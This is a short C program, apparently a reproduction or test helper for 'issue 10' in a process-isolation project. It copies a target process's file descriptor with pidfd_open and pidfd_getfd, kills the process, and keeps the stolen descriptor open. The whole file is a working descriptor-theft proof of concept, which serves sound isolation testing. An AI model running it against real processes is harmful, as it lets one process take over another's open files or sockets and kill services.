/*
 * steal_fd: what a container process holding CAP_SYS_PTRACE can do to an
 * islet process it sees (issue 10): take a copy of its descriptor FD with
 * pidfd_getfd, SIGKILL it, and hold the copy for SECONDS.
 *
 *   steal_fd PID FD SECONDS
 *
 * Prints "stolen" once it holds the copy (and has sent the kill), then sleeps.
 * Exit 1 when pidfd_open or pidfd_getfd fails.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: steal_fd PID FD SECONDS\n");
        return 2;
    }
    const int pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[1]), 0);
    if (pidfd < 0) {
        perror("pidfd_open");
        return 1;
    }
    const int copy = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(argv[2]), 0);
    if (copy < 0) {
        perror("pidfd_getfd");
        return 1;
    }
    kill(atoi(argv[1]), SIGKILL);
    printf("stolen\n");
    fflush(stdout);
    sleep((unsigned)atoi(argv[3]));
    close(copy);
    return 0;
}
